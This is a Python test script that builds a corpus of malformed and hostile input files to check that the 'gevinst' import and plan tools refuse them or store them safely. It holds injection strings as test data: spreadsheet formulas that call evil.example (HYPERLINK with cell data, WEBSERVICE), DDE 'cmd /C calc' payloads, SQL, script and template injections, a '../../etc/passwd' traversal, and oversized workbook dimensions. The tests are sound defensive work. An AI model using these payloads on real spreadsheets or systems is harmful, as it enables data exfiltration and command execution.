"""Build the bad-input corpus: files that must be refused (or, where legitimate, stored exactly).

Deterministic (fixed seeds, derived from the real files in ``tests/data``): the test session
builds it in a temporary directory, so no binary files live in the repository. To look at
the files::

    .venv/bin/python tests/bad_inputs/make_corpus.py /tmp/corpus

Each case is ``Case(id, kind, file, expect, match)``:

* ``kind``: ``import`` (``gevinst import FILE``), ``jsonstat`` (``read_jsonstat`` →
  ``read_jsonstat_metadata`` → ``to_observations``), ``plan`` (``gevinst plan import FILE``)
  or ``store`` (a JSON description of a frame straight into ``store_observations``);
* ``expect``: ``error`` (a clear bokmål message, nothing stored) or ``accept`` (stored
  exactly; formula-looking text escaped on export);
* ``match``: a text the error message must contain (optional).
"""

from __future__ import annotations

import io
import json
import random
import re
import sys
import zipfile
from dataclasses import asdict, dataclass
from pathlib import Path

DATA = Path(__file__).resolve().parent.parent / "data"
JSONSTAT = sorted((DATA / "jsonstat").glob("ssb_*_v*.json"))
STATBANK_CSV = sorted((DATA / "import").glob("*.csv"))
UTF8_CSV = [p for p in STATBANK_CSV if "utf8" in p.name]
XLSX = DATA / "import" / "12134_long.xlsx"

LONG_HEADER = "variable,region,year,value,unit,label"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_NAMES = [
    "<script>alert('x')</script>",
    "'; DROP TABLE store_observation; --",
    "Robert'); DELETE FROM accounts_organisation;--",
    "\u202egnp.exe",  # right-to-left override
    "Lørenskog \u200b\u200d skjult",  # zero-width characters
    "../../etc/passwd",
    "{{ 7*7 }} {% debug %}",
    "%s%s%s%n",
    "Ærlig Østre Åsen – «sitat» 😀",
]


@dataclass
class Case:
    id: str
    kind: str
    file: str
    expect: str = "error"
    match: str = ""


class Corpus:
    def __init__(self, out: Path):
        self.out = out
        self.cases: list[Case] = []
        out.mkdir(parents=True, exist_ok=True)

    def add(self, cid: str, kind: str, data: bytes, suffix: str, expect: str = "error", match: str = "",
            filename: str | None = None) -> None:
        assert not any(c.id == cid for c in self.cases), cid
        safe = re.sub(r"[^A-Za-z0-9_.-]", "_", cid)[:60]
        name = filename or f"{len(self.cases):03d}_{safe}{suffix}"
        (self.out / name).write_bytes(data)
        self.cases.append(Case(cid, kind, name, expect, match))


# ---------------------------------------------------------------- helpers
def long_csv(rows: list[tuple], header: str = LONG_HEADER, encoding: str = "utf-8") -> bytes:
    lines = [header] + [",".join(_q(v) for v in r) for r in rows]
    return ("\n".join(lines) + "\n").encode(encoding)


def _q(v) -> str:
    s = str(v)
    return '"' + s.replace('"', '""') + '"' if any(ch in s for ch in ',"\n\r') else s


def statbank(rows: list[tuple[str, str, str, str]], title: str = "12134: Utvalgte nøkkeltall") -> bytes:
    out = [f'"{title}"', '"region";"statistikkvariabel";"år";"value"']
    out += [";".join(f'"{c}"' if i < 3 else c for i, c in enumerate(r)) for r in rows]
    return ("\r\n".join(out) + "\r\n").encode("utf-8")


def xlsx(rows: list[list], formulas: bool = False) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_with_sheet_xml(sheet_xml: str) -> bytes:
    """A minimal valid workbook whose first sheet is ``sheet_xml`` (compressed)."""
    base = xlsx([["x"]])
    src = zipfile.ZipFile(io.BytesIO(base))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = sheet_xml.encode() if item.filename == "xl/worksheets/sheet1.xml" else src.read(item)
            z.writestr(item.filename, data)
    return buf.getvalue()


SHEET = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
         'spreadsheetml/2006/main"><dimension ref="{dim}"/><sheetData>{rows}</sheetData></worksheet>')


def _c(ref: str, v) -> str:
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>'


def plan_doc(**initiative) -> dict:
    ini = {"key": "t1", "name": "Korpus-tiltak", "phase": "ide", "decision_points": [],
           "map": {"nodes": [], "edges": []}, "benefits": []}
    ini.update(initiative)
    return {"format": "gevinst-plan", "format_version": 1,
            "organisation": {"slug": "lorenskog-demo"}, "initiatives": [ini]}


def benefit(**kw) -> dict:
    b = {"key": "b1", "name": "Færre kjøreminutter", "axis": "kvalitet", "value_class": "ikke_prissatt",
         "measurements": []}
    b.update(kw)
    return b


def jdump(doc) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


# ---------------------------------------------------------------- the corpus
def build(out: Path) -> list[Case]:
    c = Corpus(Path(out))
    rnd = random.Random(20261124)

    # --- JSON-stat: truncated real responses (20 cuts each), wrong encodings, wrong structure
    for path in JSONSTAT:
        raw = path.read_bytes()
        tag = path.name.split("_")[1]
        for k in range(1, 21):
            cut = len(raw) * k // 21
            c.add(f"jsonstat_{tag}_truncated_{k:02d}", "jsonstat", raw[:cut], ".json")
        text = raw.decode("utf-8")
        c.add(f"jsonstat_{tag}_utf16", "jsonstat", text.encode("utf-16"), ".json")
        c.add(f"jsonstat_{tag}_utf16be", "jsonstat", text.encode("utf-16-be"), ".json")
        c.add(f"jsonstat_{tag}_latin1", "jsonstat", text.encode("latin-1", "replace"), ".json")
        c.add(f"jsonstat_{tag}_cp1252", "jsonstat", text.encode("cp1252", "replace"), ".json")
        mid = len(raw) // 2
        c.add(f"jsonstat_{tag}_invalid_utf8", "jsonstat", raw[:mid] + b"\xff\xfe\xc3\x28" + raw[mid:], ".json")
        c.add(f"jsonstat_{tag}_nul_bytes", "jsonstat", raw[:mid] + b"\x00" * 16 + raw[mid:], ".json")
        doc = json.loads(raw)
        broken = {
            "value_text": dict(doc, value=["=1+1"] * len(doc["value"])),
            "value_formula_mixed": dict(doc, value=["-2+3"] + doc["value"][1:]),
            "value_short": dict(doc, value=doc["value"][:-1]),
            "size_huge": dict(doc, size=[10**6] * len(doc["size"]), value={}),
            "size_negative": dict(doc, size=[-1] + doc["size"][1:]),
            "class_collection": dict(doc, **{"class": "collection"}),
            "version_1": dict(doc, version="1.0"),
            "no_dimension": {k: v for k, v in doc.items() if k != "dimension"},
            "id_dup": dict(doc, id=[doc["id"][0]] * len(doc["id"])),
            "status_number": dict(doc, status=[1] * len(doc["value"])),
            "top_list": [doc],
        }
        for name, d in broken.items():
            c.add(f"jsonstat_{tag}_{name}", "jsonstat", jdump(d), ".json")
    c.add("jsonstat_empty", "jsonstat", b"", ".json")
    c.add("jsonstat_whitespace", "jsonstat", b"   \n\t ", ".json")
    c.add("jsonstat_null", "jsonstat", b"null", ".json")
    c.add("jsonstat_nan_literal", "jsonstat", b'{"class":"dataset","id":["A"],"size":[1],'
          b'"dimension":{"A":{"category":{"index":["a"]}}},"value":[NaN]}', ".json")
    c.add("jsonstat_deep_nesting", "jsonstat", b"[" * 100_000 + b"]" * 100_000, ".json")
    for i in range(5):
        c.add(f"jsonstat_garbage_{i}", "jsonstat", bytes(rnd.randrange(256) for _ in range(2000)), ".json")

    # --- StatBank CSV files (gevinst import): truncated inside a quoted field
    for path in STATBANK_CSV:
        raw = path.read_bytes()
        starts = [i + 1 for i in range(raw.index(b"\n") + 1, len(raw)) if raw[i:i + 1] == b'"'][::2]
        for k, pos in enumerate(starts[1:6]):
            c.add(f"csv_{path.stem}_cut_in_quote_{k}", "import", raw[:pos + 2], ".csv")
    for path in UTF8_CSV:
        text = path.read_bytes().decode("utf-8-sig")
        stem = path.stem
        c.add(f"csv_{stem}_utf16", "import", text.encode("utf-16"), ".csv")
        c.add(f"csv_{stem}_utf16le_nobom", "import", text.encode("utf-16-le"), ".csv")
        c.add(f"csv_{stem}_double_utf8", "import", text.encode("utf-8").decode("cp1252", "replace").encode("utf-8"),
              ".csv", match="tegnkoding")
        c.add(f"csv_{stem}_latin1_read_as_utf8_then_saved", "import",
              text.encode("latin-1").decode("utf-8", "replace").encode("utf-8"), ".csv", match="ugyldige tegn")
        c.add(f"csv_{stem}_bom_then_latin1", "import", b"\xef\xbb\xbf" + text.encode("latin-1"), ".csv")
    # invalid UTF-8 sequences inside a UTF-8 file that otherwise is fine: fall back to cp1252 → "Ã" mojibake
    base = statbank([("3222 Lørenskog", "Frie inntekter per innbygger (kr)", "2024", "100")])
    c.add("csv_utf8_and_cp1252_mixed", "import", base + "3030 Lillestrøm".encode("cp1252") + b"\r\n", ".csv")

    # --- wrong units
    for unit in ["NOK", "kilo", "kr per kvm", "1000 NOK", "per 1000 innb.", "m³", "%%", "prosentpoeng"]:
        c.add(f"csv_unit_{unit}", "import",
              statbank([("3222 Lørenskog", f"Frie inntekter per innbygger ({unit})", "2024", "100")]), ".csv",
              match="enhet")
        c.add(f"long_unit_{unit}", "import", long_csv([("korpus:x", "3222", 2024, 1, unit, "X")]), ".csv",
              match="enhet")
    c.add("long_unit_mismatch_population", "import",
          long_csv([("population", "3222", 2024, 1, "kr", "Folkemengde")]), ".csv", match="Feil enhet")

    # --- unknown region codes
    for code in ["9999", "0000", "3222x", "K-9999", "32222", "EAKXX", "0", "12345678", "abcd", "3222 ", "03 01"]:
        c.add(f"long_region_{code.strip() or 'blank'}_{len(c.cases)}", "import",
              long_csv([("korpus:x", "3222", 2024, 1, "kr", "X"), ("korpus:x", code, 2024, 2, "kr", "X")]), ".csv")
    for code in ["9999 Atlantis", "K-0000 Ingensteds", "Lørenskog", "EAK99 Hele landet?"]:
        c.add(f"csv_region_{code.split()[0]}", "import",
              statbank([(code, "Frie inntekter per innbygger (kr)", "2024", "100")]), ".csv")

    # --- oversized values and rows
    for v in ["1e309", "-1e309", "inf", "-Infinity", "nan", "NaN", "1" * 400, "9" * 20 + "e300"]:
        c.add(f"long_value_{v[:12]}", "import", long_csv([("korpus:x", "3222", 2024, v, "kr", "X")]), ".csv")
    for y in ["99999", "-2024", "0", "1799", "2201", "2024.5", "20x4", ""]:
        c.add(f"long_year_{y or 'blank'}", "import", long_csv([("korpus:x", "3222", y, 1, "kr", "X")]), ".csv")
    c.add("long_variable_10k", "import", long_csv([("k" * 10_000, "3222", 2024, 1, "kr", "X")]), ".csv")
    c.add("long_variable_201", "import", long_csv([("k" * 201, "3222", 2024, 1, "kr", "X")]), ".csv")
    c.add("long_label_100k", "import", long_csv([("korpus:x", "3222", 2024, 1, "kr", "L" * 100_000)]), ".csv")
    c.add("long_period_long", "import",
          long_csv([("korpus:x", "3222", 2024, 1, "kr", "X", "K1234567890")], LONG_HEADER + ",period"), ".csv")
    c.add("long_status_unknown", "import",
          long_csv([("korpus:x", "3222", 2024, 1, "kr", "X", "?!")], LONG_HEADER + ",status"), ".csv")
    c.add("csv_10k_columns", "import", (",".join(f"c{i}" for i in range(10_000)) + "\n").encode() * 3, ".csv")
    c.add("csv_one_huge_cell", "import",
          statbank([("3222 Lørenskog", "Frie inntekter per innbygger (kr)", "2024", "1" * 1_000_000)]), ".csv")
    c.add("statbank_period_long", "import",
          statbank([("3222 Lørenskog", "Frie inntekter per innbygger (kr)", "2024K123", "1")]), ".csv")

    # --- formula injection: as values (refused) and as text (stored, escaped on export)
    for i, f in enumerate(FORMULAS):
        c.add(f"long_formula_value_{i}", "import", long_csv([("korpus:x", "3222", 2024, f, "kr", "X")]), ".csv")
        c.add(f"statbank_formula_region_{i}", "import",
              statbank([(f, "Frie inntekter per innbygger (kr)", "2024", "1")]), ".csv")
        c.add(f"long_formula_label_{i}", "import",
              long_csv([(f"korpus:formel{i}", "3222", 2024, 7, "kr", f)]), ".csv", expect="accept")
        c.add(f"plan_formula_name_{i}", "plan", jdump(plan_doc(name=f"{f} #{i}", benefits=[benefit(name=f)])),
              ".json", expect="error" if f[0] in "\t\r" else "accept")

    # --- hostile names
    for i, name in enumerate(HOSTILE_NAMES):
        c.add(f"long_hostile_label_{i}", "import",
              long_csv([(f"korpus:navn{i}", "3222", 2024, 1, "kr", name)]), ".csv", expect="accept")
        c.add(f"plan_hostile_name_{i}", "plan", jdump(plan_doc(name=f"{name} #{i}")), ".json", expect="accept")
        c.add(f"statbank_hostile_region_{i}", "import",
              statbank([(name, "Frie inntekter per innbygger (kr)", "2024", "1")]), ".csv")
    for i, ch in enumerate(["\x00", "\x1b[31m", "\x07", "\x08\x08\x08", "\u0085"]):
        c.add(f"long_control_variable_{i}", "import",
              long_csv([(f"korpus:ctl{ch}x", "3222", 2024, 1, "kr", "X")]), ".csv")
        c.add(f"plan_control_name_{i}", "plan", jdump(plan_doc(name=f"Tiltak{ch}x")), ".json")
    c.add("plan_name_10k", "plan", jdump(plan_doc(name="N" * 10_000)), ".json")
    c.add("plan_name_201", "plan", jdump(plan_doc(name="N" * 201)), ".json")
    c.add("plan_benefit_name_long", "plan", jdump(plan_doc(benefits=[benefit(name="B" * 5000)])), ".json")
    c.add("plan_unit_long", "plan", jdump(plan_doc(benefits=[benefit(custom_unit="u" * 500)])), ".json")
    c.add("long_hostile_filename", "import", long_csv([("korpus:fil", "3222", 2024, 1, "kr", "X")]), ".csv",
          filename="f" * 240 + ".csv")

    # --- empty files
    for suffix in [".csv", ".txt", ".xlsx", ".json"]:
        kind = {".json": "jsonstat"}.get(suffix, "import")
        c.add(f"empty{suffix}", kind, b"", suffix)
        c.add(f"bom_only{suffix}", kind, b"\xef\xbb\xbf", suffix)
    c.add("whitespace.csv", "import", b" \r\n\t\r\n", ".csv")
    c.add("long_header_only", "import", (LONG_HEADER + "\n").encode(), ".csv")
    c.add("long_blank_cells_only", "import", (LONG_HEADER + "\n,,,,,\n").encode(), ".csv")
    c.add("statbank_title_only", "import", b'"12134: Tittel"\r\n', ".csv")
    c.add("statbank_header_only", "import", statbank([]), ".csv")
    c.add("xlsx_empty_sheet", "import", xlsx([]), ".xlsx")
    c.add("plan_empty", "plan", b"", ".json")
    c.add("plan_empty_object", "plan", b"{}", ".json")

    # --- binary garbage
    for i in range(6):
        blob = bytes(rnd.randrange(256) for _ in range(4096))
        c.add(f"garbage_{i}.csv", "import", blob, ".csv")
        c.add(f"garbage_{i}.xlsx", "import", blob, ".xlsx")
        c.add(f"garbage_plan_{i}", "plan", blob, ".json")
    c.add("png_as_csv", "import", b"\x89PNG\r\n\x1a\n" + bytes(200), ".csv")
    c.add("gzip_as_csv", "import", b"\x1f\x8b\x08\x00" + bytes(200), ".csv")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    c.add("zip_not_workbook.xlsx", "import", zbuf.getvalue(), ".xlsx")
    c.add("xls_legacy", "import", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), ".xls")
    c.add("xlsx_truncated", "import", XLSX.read_bytes()[: XLSX.stat().st_size // 2], ".xlsx")

    # --- duplicated rows
    row = ("korpus:dup", "3222", 2024, 1, "kr", "X")
    c.add("long_duplicate_rows", "import", long_csv([row, row]), ".csv", match="gjentar")
    c.add("long_duplicate_other_value", "import", long_csv([row, row[:3] + (2,) + row[4:]]), ".csv", match="gjentar")
    c.add("long_duplicate_padded_region", "import", long_csv([row, ("korpus:dup", " 3222 ", 2024, 1, "kr", "X")]),
          ".csv")
    dup = ("3222 Lørenskog", "Frie inntekter per innbygger (kr)", "2024", "1")
    c.add("statbank_duplicate_rows", "import", statbank([dup, dup]), ".csv", match="gjentar")
    c.add("statbank_duplicate_kprefix", "import", statbank([dup, ("K-3222 Lørenskog",) + dup[1:]]), ".csv")
    c.add("plan_duplicate_initiatives", "plan",
          jdump({**plan_doc(), "initiatives": [plan_doc()["initiatives"][0]] * 2}), ".json")

    # --- non-numeric values
    for v in ["abc", "1,2,3", "12..5", "1.2.3", "0x10", "1e", "--5", "5-", "12 kr", "≈5", "٣", "1/2", "true", "[1]"]:
        c.add(f"long_nonnumeric_{v}", "import", long_csv([("korpus:x", "3222", 2024, v, "kr", "X")]), ".csv")
        c.add(f"statbank_nonnumeric_{v}", "import",
              statbank([("3222 Lørenskog", "Frie inntekter per innbygger (kr)", "2024", v)]), ".csv")

    # --- Excel with formulas, and a huge declared dimension (zip-bomb-lite)
    head = [["12134: Utvalgte nøkkeltall"], ["region", "statistikkvariabel", "år", "value"]]
    c.add("xlsx_formula_value", "import",
          xlsx(head + [["3222 Lørenskog", "Frie inntekter (kr)", "2024", "=1+1"]]), ".xlsx")
    c.add("xlsx_formula_hyperlink_region", "import",
          xlsx(head + [['=HYPERLINK("http://evil.example","3222")', "Frie inntekter (kr)", "2024", 5]]), ".xlsx")
    c.add("xlsx_formula_webservice", "import",
          xlsx(head + [["3222 Lørenskog", "Frie inntekter (kr)", "2024", '=WEBSERVICE("http://evil.example")']]),
          ".xlsx")
    rows = ('<row r="1">' + _c("A1", "12134: Tittel") + '</row><row r="2">' + _c("A2", "region") + _c("B2", "år")
            + _c("C2", "value") + '</row><row r="3">' + _c("A3", "3222 Lørenskog") + _c("B3", "2024")
            + _c("C3", 1) + "</row>")
    c.add("xlsx_huge_dimension", "import", xlsx_with_sheet_xml(SHEET.format(dim="A1:XFD1048576", rows=rows)),
          ".xlsx", match="for stor")
    far = rows + '<row r="1048576">' + _c("XFD1048576", 1) + "</row>"
    c.add("xlsx_far_cell", "import", xlsx_with_sheet_xml(SHEET.format(dim="A1:XFD1048576", rows=far)), ".xlsx",
          match="for stor")
    many = rows + "".join(f'<row r="{r}"/>' for r in range(4, 300_000))
    c.add("xlsx_300k_empty_rows", "import", xlsx_with_sheet_xml(SHEET.format(dim="A1:Z300000", rows=many)),
          ".xlsx", match="for stor")
    wide = '<row r="1">' + "".join(_c(f"A{1}".replace("A", _col(i)), "x") for i in range(1, 16_385)) + "</row>"
    c.add("xlsx_16k_columns", "import", xlsx_with_sheet_xml(SHEET.format(dim="A1:XFD1", rows=wide)), ".xlsx")

    # --- plan documents: structure
    export = plan_doc(benefits=[benefit(measurements=[{"value": 3, "date": "2025-01-01"}])])
    full = jdump(export)
    for k in range(1, 9):
        c.add(f"plan_truncated_{k}", "plan", full[: len(full) * k // 9], ".json")
    c.add("plan_utf16", "plan", full.decode().encode("utf-16"), ".json")
    c.add("plan_latin1", "plan", json.dumps(export, ensure_ascii=False).replace("Færre", "Færre").encode("latin-1"),
          ".json")
    bad_plans = {
        "top_list": [export],
        "format_other": {**export, "format": "gevinst-plan-2"},
        "initiatives_string": {**export, "initiatives": "abc"},
        "initiatives_numbers": {**export, "initiatives": [1, 2]},
        "initiative_null": {**export, "initiatives": [None]},
        "phase_unknown": plan_doc(phase="bogus"),
        "risk_unknown": plan_doc(risk="ekstrem"),
        "date_invalid": plan_doc(change_start="2024-13-45"),
        "date_number": plan_doc(change_start=99999999),
        "cost_text": plan_doc(one_off_cost="mange penger"),
        "cost_nan": plan_doc(one_off_cost="NaN"),
        "cost_huge": plan_doc(one_off_cost=10**40),
        "benefit_no_key": plan_doc(benefits=[{k: v for k, v in benefit().items() if k != "key"}]),
        "benefit_axis_unknown": plan_doc(benefits=[benefit(axis="tidsbruk")]),
        "benefit_list": plan_doc(benefits="b1"),
        "measurement_text_value": plan_doc(benefits=[benefit(measurements=[{"value": "=1+1", "date": "2025-01-01"}])]),
        "measurement_no_date": plan_doc(benefits=[benefit(measurements=[{"value": 1}])]),
        "measurement_inf": plan_doc(benefits=[benefit(measurements=[{"value": "Infinity", "date": "2025-01-01"}])]),
        "decision_point_unknown": plan_doc(decision_points=[{"code": "XYZ", "date": "2025-01-01"}]),
        "decision_point_no_code": plan_doc(decision_points=[{"date": "2025-01-01"}]),
        "map_node_bad_kind": plan_doc(map={"nodes": [{"key": "n1", "kind": "bombe", "label": "x"}], "edges": []}),
        "map_node_no_label": plan_doc(map={"nodes": [{"key": "n1", "kind": "gevinst"}], "edges": []}),
        "organisation_unknown": {**export, "organisation": {"slug": "finnes-ikke"}},
        "name_missing": plan_doc(name=None),
        "name_empty": plan_doc(name=""),
        "name_object": plan_doc(name={"a": 1}),
    }
    for name, doc in bad_plans.items():
        c.add(f"plan_{name}", "plan", jdump(doc), ".json")

    # --- frames straight into the store
    good = {"variable": "korpus:s", "region": "3222", "year": 2024, "value": 1.0}
    store_cases = {
        "nan_value": [dict(good, value="nan")],
        "inf_value": [dict(good, value="inf")],
        "year_null": [dict(good, year=None)],
        "year_text": [dict(good, year="tjuetjuefire")],
        "region_null": [dict(good, region=None)],
        "variable_null": [dict(good, variable=None)],
        "status_bad": [dict(good, status="x")],
        "duplicate": [good, good],
        "undescribed_variable": [dict(good, variable="korpus:ubeskrevet")],
        "missing_columns": [{"variable": "korpus:s", "value": 1}],
        "unit_mismatch": [dict(good, variable="population")],
    }
    for name, rows_ in store_cases.items():
        variables = {} if name == "undescribed_variable" else {
            r["variable"]: {"label": "S", "unit": "kr"} for r in rows_ if r.get("variable")}
        c.add(f"store_{name}", "store", jdump({"rows": rows_, "variables": variables}), ".json")

    (Path(out) / "manifest.json").write_text(json.dumps([asdict(x) for x in c.cases], indent=1, ensure_ascii=False))
    return c.cases


def _col(i: int) -> str:
    s = ""
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


if __name__ == "__main__":
    cases = build(Path(sys.argv[1] if len(sys.argv) > 1 else "var/bad_inputs"))
    print(f"{len(cases)} cases")
